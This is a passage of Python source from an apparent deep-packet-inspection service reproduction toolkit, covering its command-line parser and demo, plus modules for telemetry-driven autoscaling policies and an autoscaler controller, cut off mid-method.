        for event in summary["faults"]:
            detail = f"  ({event['detail']})" if event["detail"] else ""
            print(
                f"  t={event['time']:<8.3f} {event['phase']:<8} "
                f"{event['kind']} -> {event['target']}{detail}"
            )
        for name, duration in summary["failover_times"].items():
            print(
                f"failover {name}: {duration:.3f}s "
                f"(budget {summary['failover_budget']:.3f}s)"
            )
        print(
            f"lost after recovery: {summary['lost_after_recovery']}  "
            f"unrecovered instances: "
            f"{len(summary['unrecovered_instances'])}"
        )
        print(f"digest: {summary['digest']}")
        print("result: " + ("OK" if result.ok else "FAILED"))
    return 0 if result.ok else 1


def _cmd_fuzz_diff(args) -> int:
    from repro.adversarial import (
        Corpus,
        generate_corpus,
        legs_by_name,
        run_differential,
    )

    if args.corpus:
        try:
            corpus = Corpus.load(args.corpus)
        except (OSError, ValueError, KeyError) as error:
            print(
                f"fuzz-diff: cannot load corpus {args.corpus}: {error}",
                file=sys.stderr,
            )
            return 2
    else:
        corpus = generate_corpus(args.seed, cases_per_kind=args.cases)
    try:
        legs = legs_by_name(args.legs) if args.legs else None
    except ValueError as error:
        print(f"fuzz-diff: {error}", file=sys.stderr)
        return 2
    progress = None
    if args.format == "text":
        progress = lambda message: print(f"  {message}")  # noqa: E731
    report = run_differential(corpus, legs=legs, progress=progress)
    payload = report.to_dict()
    if args.out:
        import json

        with open(args.out, "w", encoding="utf-8") as handle:
            json.dump(payload, handle, indent=2, sort_keys=True)
            handle.write("\n")
    if args.format == "json":
        import json

        print(json.dumps(payload, indent=2, sort_keys=True))
    else:
        source = args.corpus or f"seed {args.seed}"
        print(
            f"corpus: {source}  cases: {report.cases}  "
            f"legs: {len(report.legs)}"
        )
        for divergence in report.divergences:
            print(
                f"DIVERGENCE {divergence.case}: {divergence.leg} vs "
                f"{divergence.baseline} on {', '.join(divergence.fields)}"
            )
        for leg, case, error in report.errors:
            print(f"ERROR {case} on {leg}: {error}")
        print("result: " + ("OK" if report.ok else "DIVERGED"))
    return 0 if report.ok else 1


def _cmd_demo(args) -> int:
    from repro.core.controller import DPIController
    from repro.core.messages import AddPatternsMessage, RegisterMiddleboxMessage
    from repro.net.steering import PolicyChain

    controller = DPIController()
    controller.handle_message(RegisterMiddleboxMessage(1, "ids"))
    controller.handle_message(RegisterMiddleboxMessage(2, "av"))
    controller.handle_message(
        AddPatternsMessage(1, [Pattern(0, b"attack-demo-sig")])
    )
    controller.handle_message(
        AddPatternsMessage(2, [Pattern(0, b"virus-demo-sig!")])
    )
    controller.policy_chains_changed(
        {"demo": PolicyChain("demo", ("ids", "av"), chain_id=100)}
    )
    instance = controller.instances.provision("demo-instance")
    samples = [
        b"a perfectly clean packet",
        b"carrying the attack-demo-sig here",
        b"and one with virus-demo-sig! too",
    ]
    for payload in samples:
        output = instance.inspect(payload, chain_id=100)
        verdict = "MATCHES" if output.has_matches else "clean"
        print(f"{verdict:7}  {payload!r}")
        for middlebox_id, matches in output.matches.items():
            for pattern_id, position in matches:
                name = {1: "ids", 2: "av"}[middlebox_id]
                print(f"         -> {name}: pattern {pattern_id} ends at {position}")
    print(f"telemetry: {instance.telemetry.snapshot()}")
    return 0


def _add_sharding_flags(command: argparse.ArgumentParser) -> None:
    """The --shards/--shard-backend/... family (for --kernel sharded)."""
    command.add_argument(
        "--shards",
        type=int,
        default=0,
        help="shard count for --kernel sharded (0 = unsharded)",
    )
    command.add_argument(
        "--shard-backend",
        choices=BACKEND_NAMES,
        default="serial",
        help="execution backend for sharded scans",
    )
    command.add_argument(
        "--shard-kernel",
        choices=KERNEL_NAMES,
        default="flat",
        help="per-shard kernel family for sharded scans",
    )
    command.add_argument(
        "--shard-workers",
        type=int,
        default=0,
        help="worker processes for pooled shard backends "
        "(0 = min(shards, cpu count))",
    )
    command.add_argument(
        "--pipelined",
        action="store_true",
        help="double-buffer batched sharded scans through two arena "
        "regions (zerocopy backend)",
    )


def build_parser() -> argparse.ArgumentParser:
    """The argparse command-line parser."""
    parser = argparse.ArgumentParser(
        prog="repro-dpi",
        description="DPI-as-a-service reproduction toolkit",
    )
    commands = parser.add_subparsers(dest="command", required=True)

    generate = commands.add_parser(
        "generate-patterns", help="write a synthetic pattern corpus"
    )
    generate.add_argument("--style", choices=("snort", "clamav"), default="snort")
    generate.add_argument("--count", type=int, default=1000)
    generate.add_argument("--seed", type=int, default=1)
    generate.add_argument("--out", required=True)
    generate.set_defaults(func=_cmd_generate_patterns)

    trace = commands.add_parser("generate-trace", help="write a traffic trace")
    trace.add_argument("--packets", type=int, default=200)
    trace.add_argument("--style", choices=("http", "campus"), default="http")
    trace.add_argument("--patterns", help="pattern file to inject from")
    trace.add_argument("--match-rate", type=float, default=0.08)
    trace.add_argument("--flows", type=int, default=None)
    trace.add_argument("--seed", type=int, default=7)
    trace.add_argument("--out", required=True)
    trace.set_defaults(func=_cmd_generate_trace)

    scan = commands.add_parser("scan", help="scan a trace with an engine")
    scan.add_argument("--patterns", required=True)
    scan.add_argument("--trace", required=True)
    scan.add_argument("--engine", choices=("ac", "wm", "combined"), default="ac")
    scan.add_argument("--layout", choices=("sparse", "full"), default="sparse")
    scan.add_argument(
        "--kernel",
        choices=INSTANCE_KERNEL_NAMES,
        default="flat",
        help="scan kernel for --engine combined",
    )
    scan.add_argument(
        "--cache-size",
        type=int,
        default=0,
        help="LRU scan-cache capacity for --engine combined (0 = off)",
    )
    _add_sharding_flags(scan)
    scan.set_defaults(func=_cmd_scan)

    bench = commands.add_parser(
        "bench-kernels", help="run the scan-kernel ablation benchmark"
    )
    bench.add_argument("--pattern-count", type=int, default=2000)
    bench.add_argument("--packets", type=int, default=60)
    bench.add_argument("--rounds", type=int, default=5)
    bench.add_argument("--cache-size", type=int, default=256)
    bench.add_argument(
        "--sharding",
        action="store_true",
        help="run the sharding ablation instead (BENCH_sharding.json)",
    )
    bench.add_argument(
        "--shards",
        type=int,
        default=0,
        help="shard count for --sharding (default 4)",
    )
    bench.add_argument("--out", help="write BENCH_kernels.json here")
    bench.set_defaults(func=_cmd_bench_kernels)

    report = commands.add_parser(
        "report",
        help="run the figure-5 telemetry scenario and print the summary",
    )
    report.add_argument("--packets", type=int, default=40)
    report.add_argument("--seed", type=int, default=7)
    report.add_argument(
        "--kernel", choices=INSTANCE_KERNEL_NAMES, default="flat"
    )
    report.add_argument(
        "--cache-size",
        type=int,
        default=0,
        help="LRU scan-cache capacity for the DPI instance (0 = off)",
    )
    _add_sharding_flags(report)
    report.add_argument("--jsonl", help="also export the JSONL event log here")
    report.add_argument(
        "--prom", help="also export a Prometheus text-format dump here"
    )
    report.set_defaults(func=_cmd_report)

    lint = commands.add_parser(
        "lint", help="run the project lint engine over Python sources"
    )
    lint.add_argument("paths", nargs="*", help="files or directories to lint")
    lint.add_argument(
        "--self",
        dest="self_check",
        action="store_true",
        help="lint the installed repro package itself",
    )
    lint.add_argument("--format", choices=("text", "json"), default="text")
    lint.add_argument(
        "--select",
        help="comma-separated rule-code prefixes to run "
        "(e.g. RES,CON,DET003); default runs the full catalog",
    )
    lint.add_argument(
        "--baseline",
        help="JSON baseline of accepted findings; only new findings fail",
    )
    lint.add_argument(
        "--write-baseline",
        action="store_true",
        help="(re)write --baseline FILE from the current findings and exit",
    )
    lint.set_defaults(func=_cmd_lint)

    check = commands.add_parser(
        "check",
        help="statically validate a built scenario without sending traffic",
    )
    check.add_argument("scenario", choices=("figure5",))
    check.add_argument(
        "--inject",
        action="append",
        choices=sorted(CHECK_FAULTS),
        help="break the scenario in a known way first (repeatable)",
    )
    check.add_argument(
        "--load-spec",
        help="also validate a load-profile JSON file (LOAD0xx codes)",
    )
    check.add_argument("--format", choices=("text", "json"), default="text")
    check.set_defaults(func=_cmd_check)

    load = commands.add_parser(
        "load",
        help="drive a deterministic load scenario, optionally autoscaled",
    )
    load.add_argument("scenario", choices=LOAD_SCENARIOS)
    load.add_argument("--spec", help="LoadSpec JSON file (flags override it)")
    load.add_argument(
        "--profile", help="traffic mix or profile name (default mixed)"
    )
    load.add_argument("--flows", type=int, help="peak concurrent flows")
    load.add_argument("--epochs", type=int, help="epoch count")
    load.add_argument("--epoch-seconds", type=float, help="epoch length")
    load.add_argument("--seed", type=int, help="load generator seed")
    load.add_argument("--slo-ms", type=float, help="p99 latency SLO (ms)")
    load.add_argument(
        "--rate-mbps", type=float, help="modeled per-instance scan rate"
    )
    load.add_argument(
        "--instances", type=int, help="initial DPI instance count"
    )
    load.add_argument(
        "--max-packets", type=int, help="per-epoch packet cap (harness bound)"
    )
    load.add_argument(
        "--ramp", choices=LOAD_RAMP_KINDS, help="ramp schedule kind"
    )
    load.add_argument(
        "--autoscale",
        action="store_true",
        help="close the loop: elastic instance pool against the SLO",
    )
    load.add_argument(
        "--policy",
        choices=LOAD_POLICY_NAMES,
        default="isolation",
        help="autoscaling policy stack (isolation includes hysteresis)",
    )
    load.add_argument(
        "--max-instances", type=int, default=8, help="autoscaler pool ceiling"
    )
    load.add_argument(
        "--plan", help="fault plan JSON to inject during the run"
    )
    load.add_argument(
        "--kernel",
        # Standalone kernels only: the load driver provisions instances
        # without shard flags, so the sharded kernel cannot be configured
        # from here.
        choices=tuple(
            name for name in INSTANCE_KERNEL_NAMES if name != "sharded"
        ),
        default="flat",
    )
    load.add_argument(
        "--no-validate",
        action="store_true",
        help="skip LOAD0xx spec validation (not recommended)",
    )
    load.add_argument("--out", help="also write the JSON summary here")
    load.add_argument("--format", choices=("text", "json"), default="text")
    load.set_defaults(func=_cmd_load)

    bench_e2e = commands.add_parser(
        "bench-e2e",
        help="capacity curves: flows vs p99/throughput, static vs autoscaled",
    )
    bench_e2e.add_argument(
        "--flow-steps",
        default="200,600,1200,2000",
        help="comma-separated concurrent-flow steps",
    )
    bench_e2e.add_argument("--epochs", type=int, default=18)
    bench_e2e.add_argument("--seed", type=int, default=7)
    bench_e2e.add_argument("--profile", default="mixed")
    bench_e2e.add_argument("--slo-ms", type=float, default=50.0)
    bench_e2e.add_argument("--rate-mbps", type=float, default=40.0)
    bench_e2e.add_argument("--max-instances", type=int, default=6)
    bench_e2e.add_argument("--out", help="write BENCH_e2e.json here")
    bench_e2e.set_defaults(func=_cmd_bench_e2e)

    anomaly = commands.add_parser(
        "anomaly",
        help="flow-feature anomaly detection over a seeded load run",
    )
    anomaly.add_argument(
        "--profile", default="web-flood", help="profile or mix to classify"
    )
    anomaly.add_argument(
        "--calibration-profile",
        default="benign-http",
        help="benign profile or mix the baseline is fitted on",
    )
    anomaly.add_argument("--flows", type=int, default=200)
    anomaly.add_argument("--epochs", type=int, default=6)
    anomaly.add_argument("--seed", type=int, default=7)
    anomaly.add_argument("--threshold", type=float, default=5.0)
    anomaly.add_argument("--min-packets", type=int, default=2)
    anomaly.add_argument(
        "--autoscale",
        action="store_true",
        help="steer flagged flows to dedicated instances (isolation pins)",
    )
    anomaly.add_argument(
        "--max-instances", type=int, default=8, help="autoscaler pool ceiling"
    )
    anomaly.add_argument(
        "--top", type=int, default=5, help="flagged flows to show/emit"
    )
    anomaly.add_argument("--out", help="also write the JSON summary here")
    anomaly.add_argument("--format", choices=("text", "json"), default="text")
    anomaly.set_defaults(func=_cmd_anomaly)

    bench_anomaly = commands.add_parser(
        "bench-anomaly",
        help="anomaly detection quality + hot-path overhead report",
    )
    bench_anomaly.add_argument("--flows", type=int, default=400)
    bench_anomaly.add_argument("--epochs", type=int, default=8)
    bench_anomaly.add_argument("--seed", type=int, default=7)
    bench_anomaly.add_argument("--threshold", type=float, default=5.0)
    bench_anomaly.add_argument("--min-packets", type=int, default=2)
    bench_anomaly.add_argument("--profile", default="web-flood")
    bench_anomaly.add_argument(
        "--calibration-profile", default="benign-http"
    )
    bench_anomaly.add_argument(
        "--packets", type=int, default=600, help="overhead-loop packet count"
    )
    bench_anomaly.add_argument(
        "--rounds", type=int, default=15, help="overhead timing rounds"
    )
    bench_anomaly.add_argument("--out", help="write BENCH_anomaly.json here")
    bench_anomaly.set_defaults(func=_cmd_bench_anomaly)

    chaos = commands.add_parser(
        "chaos",
        help="run a fault plan against a scenario and grade the recovery",
    )
    chaos.add_argument("scenario", choices=("figure5",))
    chaos.add_argument(
        "--plan", required=True, help="fault plan JSON file to execute"
    )
    chaos.add_argument("--packets", type=int, default=60)
    chaos.add_argument(
        "--kernel", choices=INSTANCE_KERNEL_NAMES, default="flat"
    )
    _add_sharding_flags(chaos)
    chaos.add_argument(
        "--failover-budget",
        type=float,
        default=1.0,
        help="max seconds from failure detection to chains recovered",
    )
    chaos.add_argument(
        "--no-spare",
        action="store_true",
        help="run without a standby host (forces graceful degradation)",
    )
    chaos.add_argument("--format", choices=("text", "json"), default="text")
    chaos.set_defaults(func=_cmd_chaos)

    fuzz_diff = commands.add_parser(
        "fuzz-diff",
        help="replay an adversarial corpus through every kernel/backend "
        "leg and report divergences",
    )
    fuzz_diff.add_argument(
        "--seed", type=int, default=1234, help="corpus generator seed"
    )
    fuzz_diff.add_argument(
        "--cases",
        type=int,
        default=8,
        help="generated cases per adversarial kind",
    )
    fuzz_diff.add_argument(
        "--corpus",
        help="replay a corpus JSON file instead of generating one",
    )
    fuzz_diff.add_argument(
        "--legs",
        nargs="+",
        metavar="LEG",
        help="restrict to named legs (default: all kernel×backend legs)",
    )
    fuzz_diff.add_argument(
        "--out", help="also write the full JSON report to this path"
    )
    fuzz_diff.add_argument(
        "--format", choices=("text", "json"), default="text"
    )
    fuzz_diff.set_defaults(func=_cmd_fuzz_diff)

    demo = commands.add_parser("demo", help="run a tiny end-to-end demo")
    demo.set_defaults(func=_cmd_demo)
    return parser


def main(argv=None) -> int:
    """CLI entry point; returns the process exit code."""
    parser = build_parser()
    args = parser.parse_args(argv)
    try:
        return args.func(args)
    except BrokenPipeError:
        # Downstream pipe (e.g. `| head`) closed early; not our error.
        import os

        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 0


if __name__ == "__main__":
    sys.exit(main())
