"""Elastic autoscaling for DPI service instances.

Watches the telemetry registry (PR 2) and drives the
:class:`~repro.core.lifecycle.InstanceManager` facade (PR 4) against a
p99-latency SLO.  See :mod:`repro.autoscale.controller` for the loop and
:mod:`repro.autoscale.policies` for the pluggable decision functions.
"""

from repro.autoscale.controller import (
    FAULT_EVENTS,
    LOAD_OFFERED_BYTES,
    LOAD_PACKETS,
    LOAD_QUEUE_DEPTH,
    LOAD_QUEUE_LATENCY,
    LOAD_SERVED_BYTES,
    LOAD_SLO_VIOLATIONS,
    LOAD_SUPPRESSED,
    QUEUE_LATENCY_BUCKETS,
    AutoscaleEvent,
    Autoscaler,
)
from repro.autoscale.policies import (
    POLICY_NAMES,
    HysteresisPolicy,
    IsolationPolicy,
    LoadSignals,
    ScalingDecision,
    ScalingPolicy,
    ThresholdPolicy,
    build_policies,
)

__all__ = [
    "AutoscaleEvent",
    "Autoscaler",
    "HysteresisPolicy",
    "IsolationPolicy",
    "LoadSignals",
    "POLICY_NAMES",
    "QUEUE_LATENCY_BUCKETS",
    "ScalingDecision",
    "ScalingPolicy",
    "ThresholdPolicy",
    "build_policies",
    "FAULT_EVENTS",
    "LOAD_OFFERED_BYTES",
    "LOAD_PACKETS",
    "LOAD_QUEUE_DEPTH",
    "LOAD_QUEUE_LATENCY",
    "LOAD_SERVED_BYTES",
    "LOAD_SLO_VIOLATIONS",
    "LOAD_SUPPRESSED",
]
