"""Pluggable scaling policies: threshold, hysteresis, heavy-hitter isolation.

A policy is a pure decision function: :class:`LoadSignals` in, one
:class:`ScalingDecision` out.  The :class:`~repro.autoscale.controller.
Autoscaler` owns *acting* on decisions (provisioning, decommissioning,
pinning) and consults its policies in order, taking the first non-hold
answer — so an :class:`IsolationPolicy` placed before a
:class:`HysteresisPolicy` wins when both would fire.

Policies must be deterministic: decisions feed provisioning, provisioning
feeds the telemetry digest, and the acceptance bar is bit-identical digests
across reruns of the same seeded scenario.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Hashable, Protocol


@dataclass(frozen=True)
class LoadSignals:
    """One tick's view of the system, derived from the telemetry registry."""

    epoch: int
    now: float
    alive_instances: int
    #: Offered bytes this window / modeled scan capacity of the alive pool.
    utilization: float
    #: Total unserved backlog across shared instances, bytes.
    queue_bytes: float
    #: Windowed p99 of the modeled queue latency, seconds.
    p99_latency_seconds: float
    slo_seconds: float
    #: True when fault events landed in this window (crash/restart/...).
    fault_active: bool
    #: Largest single flow's share of offered bytes this window (0..1).
    heavy_share: float = 0.0
    heavy_flow: Hashable | None = None
    heavy_chain: int | None = None
    #: Flows the anomaly detector flagged this window and that are not yet
    #: pinned, as sorted ``(flow_key, chain_id)`` pairs.
    anomalous_flows: tuple = ()


@dataclass(frozen=True)
class ScalingDecision:
    """What a policy wants done this tick."""

    action: str  # "hold" | "up" | "down" | "isolate"
    reason: str = ""
    flow_key: Hashable | None = None
    chain_id: int | None = None


HOLD = ScalingDecision("hold")


class ScalingPolicy(Protocol):
    name: str

    def decide(self, signals: LoadSignals) -> ScalingDecision: ...


@dataclass
class ThresholdPolicy:
    """Scale up on SLO breach or hot utilization; down when clearly idle.

    Stateless — every breach votes immediately.  Wrap it in a
    :class:`HysteresisPolicy` to debounce.
    """

    high_utilization: float = 0.85
    low_utilization: float = 0.35
    #: Scale down only when p99 is under ``slo * latency_headroom``.
    latency_headroom: float = 0.5
    name: str = "threshold"

    def decide(self, signals: LoadSignals) -> ScalingDecision:
        if signals.p99_latency_seconds > signals.slo_seconds:
            return ScalingDecision(
                "up",
                reason=(
                    f"p99 {signals.p99_latency_seconds * 1e3:.1f}ms over "
                    f"SLO {signals.slo_seconds * 1e3:.1f}ms"
                ),
            )
        if signals.utilization > self.high_utilization:
            return ScalingDecision(
                "up", reason=f"utilization {signals.utilization:.2f} hot"
            )
        if (
            signals.alive_instances > 1
            and signals.utilization < self.low_utilization
            and signals.queue_bytes == 0
            and signals.p99_latency_seconds
            < signals.slo_seconds * self.latency_headroom
        ):
            return ScalingDecision(
                "down", reason=f"utilization {signals.utilization:.2f} idle"
            )
        return HOLD


@dataclass
class HysteresisPolicy:
    """Debounce an inner policy: consecutive votes, cooldown, fault freeze.

    An ``up`` fires only after ``up_after`` consecutive up votes, ``down``
    after ``down_after``; any fired action starts a ``cooldown_epochs``
    window during which everything is held.  Fault activity freezes the
    policy for ``fault_hold_epochs`` ticks — recovery is the lifecycle
    layer's job, and reacting to a crash-induced latency spike by
    provisioning (then decommissioning after restart) is exactly the
    flapping this wrapper exists to prevent.
    """

    inner: ThresholdPolicy = field(default_factory=ThresholdPolicy)
    up_after: int = 2
    down_after: int = 3
    cooldown_epochs: int = 4
    fault_hold_epochs: int = 2
    name: str = "hysteresis"

    def __post_init__(self) -> None:
        self._up_streak = 0
        self._down_streak = 0
        self._cooldown_left = 0
        self._fault_hold_left = 0

    def decide(self, signals: LoadSignals) -> ScalingDecision:
        if signals.fault_active:
            self._fault_hold_left = self.fault_hold_epochs
            self._up_streak = 0
            self._down_streak = 0
            return ScalingDecision("hold", reason="fault window: frozen")
        if self._fault_hold_left > 0:
            self._fault_hold_left -= 1
            return ScalingDecision("hold", reason="post-fault hold")
        if self._cooldown_left > 0:
            self._cooldown_left -= 1
            return ScalingDecision("hold", reason="cooldown")
        vote = self.inner.decide(signals)
        if vote.action == "up":
            self._up_streak += 1
            self._down_streak = 0
            if self._up_streak >= self.up_after:
                self._up_streak = 0
                self._cooldown_left = self.cooldown_epochs
                return vote
            return ScalingDecision("hold", reason=f"up streak {self._up_streak}")
        if vote.action == "down":
            self._down_streak += 1
            self._up_streak = 0
            if self._down_streak >= self.down_after:
                self._down_streak = 0
                self._cooldown_left = self.cooldown_epochs
                return vote
            return ScalingDecision(
                "hold", reason=f"down streak {self._down_streak}"
            )
        self._up_streak = 0
        self._down_streak = 0
        return vote


@dataclass
class IsolationPolicy:
    """MCA²-style heavy-hitter isolation (paper §5.3).

    When one flow owns more than ``heavy_share_threshold`` of the offered
    bytes, ask for a dedicated instance scoped to that flow's chain; the
    autoscaler pins the flow there, taking its pathological payloads out of
    the shared pool's queues.

    Anomaly-detector verdicts are a second trigger: a flagged flow is
    isolated regardless of its byte share (volumetric attacks hide below
    heavy-hitter thresholds by spreading over packets, not bytes).
    Flagged flows win over the heavy hitter — a statistical verdict
    carries more evidence than a single window's byte count.
    """

    heavy_share_threshold: float = 0.35
    isolate_anomalous: bool = True
    name: str = "isolation"

    def decide(self, signals: LoadSignals) -> ScalingDecision:
        if self.isolate_anomalous and signals.anomalous_flows:
            flow_key, chain_id = signals.anomalous_flows[0]
            return ScalingDecision(
                "isolate",
                reason=f"flow {flow_key!r} flagged anomalous",
                flow_key=flow_key,
                chain_id=chain_id,
            )
        if (
            signals.heavy_flow is not None
            and signals.heavy_share >= self.heavy_share_threshold
        ):
            return ScalingDecision(
                "isolate",
                reason=(
                    f"flow {signals.heavy_flow!r} owns "
                    f"{signals.heavy_share:.0%} of offered bytes"
                ),
                flow_key=signals.heavy_flow,
                chain_id=signals.heavy_chain,
            )
        return HOLD


POLICY_NAMES = ("threshold", "hysteresis", "isolation")


def build_policies(name: str) -> list[ScalingPolicy]:
    """CLI helper: a policy stack from its ``--policy`` name."""
    if name == "threshold":
        return [ThresholdPolicy()]
    if name == "hysteresis":
        return [HysteresisPolicy()]
    if name == "isolation":
        return [IsolationPolicy(), HysteresisPolicy()]
    raise KeyError(f"unknown policy: {name!r} (known: {', '.join(POLICY_NAMES)})")
