"""The elastic autoscaler: telemetry registry in, lifecycle verbs out.

The :class:`Autoscaler` closes the control loop the SDN literature frames:
each tick it derives :class:`~repro.autoscale.policies.LoadSignals` from
the live :class:`~repro.telemetry.MetricsRegistry` (offered-byte counter
deltas, queue-depth gauges, a *windowed* p99 from latency-histogram bucket
deltas, fault-event activity), consults its policy stack, and acts through
the :class:`~repro.core.lifecycle.InstanceManager` facade — provision on
sustained SLO breach, decommission when idle, provision a *dedicated*
instance and pin a heavy-hitter flow to it when the isolation policy
fires.  A self-healing floor replaces crashed instances regardless of
policy state, so fault injection triggers failover while hysteresis keeps
the policy itself from flapping.

Everything here must stay deterministic: no wall clock, no unseeded
randomness, instance names from a monotonic sequence.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Hashable, Iterable, Sequence

from repro.autoscale.policies import (
    HOLD,
    HysteresisPolicy,
    IsolationPolicy,
    LoadSignals,
    ScalingDecision,
    ScalingPolicy,
)
from repro.telemetry.registry import percentile_from_counts

#: Metric names the load driver emits and the autoscaler watches.  Shared
#: constants so the two subsystems cannot drift apart silently.
LOAD_OFFERED_BYTES = "load_offered_bytes_total"
LOAD_SERVED_BYTES = "load_served_bytes_total"
LOAD_QUEUE_DEPTH = "load_queue_depth_bytes"
LOAD_QUEUE_LATENCY = "load_queue_latency_seconds"
LOAD_SLO_VIOLATIONS = "load_slo_violations_total"
LOAD_PACKETS = "load_packets_total"
LOAD_SUPPRESSED = "load_suppressed_packets_total"
FAULT_EVENTS = "fault_events_total"

#: Queue-latency histogram bounds (seconds): sub-millisecond to 5s, spaced
#: around typical SLOs (tens of milliseconds).
QUEUE_LATENCY_BUCKETS = (
    1e-3, 2.5e-3, 5e-3, 1e-2, 2.5e-2, 5e-2, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0,
)


@dataclass(frozen=True)
class AutoscaleEvent:
    """One applied action (not policy votes — those may be held)."""

    time: float
    epoch: int
    action: str  # "up" | "down" | "heal" | "isolate"
    instance: str
    reason: str


@dataclass
class _CounterWatch:
    """Per-metric-name snapshot differ over every label variant."""

    seen: dict[tuple[tuple[str, Any], ...], float] = field(default_factory=dict)

    def delta(self, metrics: Iterable[Any]) -> float:
        total = 0.0
        for metric in metrics:
            key = tuple(sorted(metric.labels.items()))
            previous = self.seen.get(key, 0.0)
            total += metric.value - previous
            self.seen[key] = metric.value
        return total


class Autoscaler:
    """Watches one controller's registry; scales its instance pool."""

    def __init__(
        self,
        controller: Any,
        *,
        rate_bytes_per_second: float,
        epoch_seconds: float,
        slo_seconds: float,
        policies: "Sequence[ScalingPolicy] | None" = None,
        min_instances: int = 1,
        max_instances: int = 8,
        prefix: str = "dpi-auto",
        provision_kwargs: "dict[str, Any] | None" = None,
    ) -> None:
        if min_instances < 1:
            raise ValueError(f"min_instances must be >= 1: {min_instances}")
        if max_instances < min_instances:
            raise ValueError(
                f"max_instances {max_instances} < min_instances {min_instances}"
            )
        self.controller = controller
        self.manager = controller.instances
        self.registry = controller.telemetry.registry
        self.clock = controller.telemetry.now
        self.policies: list[ScalingPolicy] = (
            list(policies)
            if policies is not None
            else [IsolationPolicy(), HysteresisPolicy()]
        )
        self.rate_bytes_per_second = rate_bytes_per_second
        self.epoch_seconds = epoch_seconds
        self.slo_seconds = slo_seconds
        self.min_instances = min_instances
        self.max_instances = max_instances
        self.prefix = prefix
        self.provision_kwargs = dict(provision_kwargs or {})
        self._sequence = 0
        self._managed: list[str] = []  # shared instances we provisioned
        self._offered = _CounterWatch()
        self._faults = _CounterWatch()
        self._latency_seen: dict[tuple[tuple[str, Any], ...], list[int]] = {}
        #: flow_key -> dedicated instance name (the driver honors these).
        self.pins: dict[Hashable, str] = {}
        self.events: list[AutoscaleEvent] = []
        self._instances_gauge = self.registry.gauge("autoscale_instances")
        self._instances_gauge.set(len(self.shared_alive()))

    # -- registry-derived signals ----------------------------------------

    def shared_alive(self) -> list[str]:
        """Alive, non-dedicated instance names, sorted (determinism)."""
        names = []
        for name, instance in self.manager.items():
            if instance.alive and not self.manager.is_dedicated(name):
                names.append(name)
        return sorted(names)

    def _windowed_p99(self) -> float:
        bounds: "tuple[float, ...] | None" = None
        aggregate: "list[int] | None" = None
        for histogram in self.registry.collect_named(LOAD_QUEUE_LATENCY):
            key = tuple(sorted(histogram.labels.items()))
            counts = list(histogram.bucket_counts)
            previous = self._latency_seen.get(key)
            self._latency_seen[key] = counts
            if previous is not None:
                counts = [now - then for now, then in zip(counts, previous)]
            if aggregate is None:
                bounds = tuple(histogram.bounds)
                aggregate = counts
            else:
                aggregate = [a + b for a, b in zip(aggregate, counts)]
        if aggregate is None or bounds is None:
            return 0.0
        return percentile_from_counts(bounds, aggregate, 0.99)

    def observe(
        self,
        *,
        epoch: int,
        heavy_flow: Hashable | None = None,
        heavy_share: float = 0.0,
        heavy_chain: "int | None" = None,
        anomalous_flows: "tuple | Sequence" = (),
    ) -> LoadSignals:
        """Derive this tick's :class:`LoadSignals` from the registry."""
        alive = self.shared_alive()
        offered = self._offered.delta(
            self.registry.collect_named(LOAD_OFFERED_BYTES)
        )
        fault_delta = self._faults.delta(
            self.registry.collect_named(FAULT_EVENTS)
        )
        queue_bytes = 0.0
        for gauge in self.registry.collect_named(LOAD_QUEUE_DEPTH):
            owner = gauge.labels.get("instance")
            if owner in self.manager and self.manager.is_dedicated(owner):
                continue
            queue_bytes += gauge.value
        capacity = (
            max(1, len(alive)) * self.rate_bytes_per_second * self.epoch_seconds
        )
        return LoadSignals(
            epoch=epoch,
            now=self.clock(),
            alive_instances=len(alive),
            utilization=offered / capacity if capacity else 0.0,
            queue_bytes=queue_bytes,
            p99_latency_seconds=self._windowed_p99(),
            slo_seconds=self.slo_seconds,
            fault_active=fault_delta > 0,
            heavy_share=heavy_share,
            heavy_flow=heavy_flow,
            heavy_chain=heavy_chain,
            anomalous_flows=tuple(anomalous_flows),
        )

    # -- acting ----------------------------------------------------------

    def _next_name(self, *, isolated: bool = False) -> str:
        self._sequence += 1
        if isolated:
            return f"{self.prefix}-iso-{self._sequence}"
        return f"{self.prefix}-{self._sequence}"

    def _actions_counter(self, action: str) -> Any:
        return self.registry.counter("autoscale_actions_total", action=action)

    def _record(self, epoch: int, action: str, instance: str, reason: str) -> None:
        event = AutoscaleEvent(
            time=self.clock(),
            epoch=epoch,
            action=action,
            instance=instance,
            reason=reason,
        )
        self.events.append(event)
        self._actions_counter(action).inc()

    def _provision_shared(self, epoch: int, action: str, reason: str) -> str:
        name = self._next_name()
        self.manager.provision(name, **self.provision_kwargs)
        self._managed.append(name)
        self._record(epoch, action, name, reason)
        return name

    def _decide(self, signals: LoadSignals) -> ScalingDecision:
        for policy in self.policies:
            decision = policy.decide(signals)
            if decision.action != "hold":
                return decision
        return HOLD

    def _apply_isolate(self, epoch: int, decision: ScalingDecision) -> bool:
        """Provision a dedicated instance and pin the decision's flow."""
        if decision.flow_key is None or decision.flow_key in self.pins:
            return False
        name = self._next_name(isolated=True)
        chain_ids = (
            (decision.chain_id,) if decision.chain_id is not None else None
        )
        kwargs = dict(self.provision_kwargs)
        kwargs["chain_ids"] = chain_ids
        kwargs["dedicated"] = True
        self.manager.provision(name, **kwargs)
        self.pins[decision.flow_key] = name
        self._record(epoch, "isolate", name, decision.reason)
        return True

    def isolate_now(
        self,
        *,
        epoch: int,
        heavy_flow: Hashable | None = None,
        heavy_share: float = 0.0,
        heavy_chain: "int | None" = None,
        anomalous_flows: "tuple | Sequence" = (),
    ) -> list[AutoscaleEvent]:
        """Placement-time isolation: pin heavy hitters *before* the epoch.

        The load driver knows each epoch's per-flow byte totals before it
        places a single packet, so isolation decisions can act immediately
        instead of leaving the dedicated instance idle until the next
        epoch.  Only stateless :class:`IsolationPolicy` entries are
        consulted — stateful policies (hysteresis streaks, cooldowns) and
        the registry-delta windows belong exclusively to :meth:`tick`,
        which still runs at the end of the epoch; its isolate branch then
        no-ops because the flow is already pinned.
        """
        signals = LoadSignals(
            epoch=epoch,
            now=self.clock(),
            alive_instances=len(self.shared_alive()),
            utilization=0.0,
            queue_bytes=0.0,
            p99_latency_seconds=0.0,
            slo_seconds=self.slo_seconds,
            fault_active=False,
            heavy_share=heavy_share,
            heavy_flow=heavy_flow,
            heavy_chain=heavy_chain,
            anomalous_flows=tuple(anomalous_flows),
        )
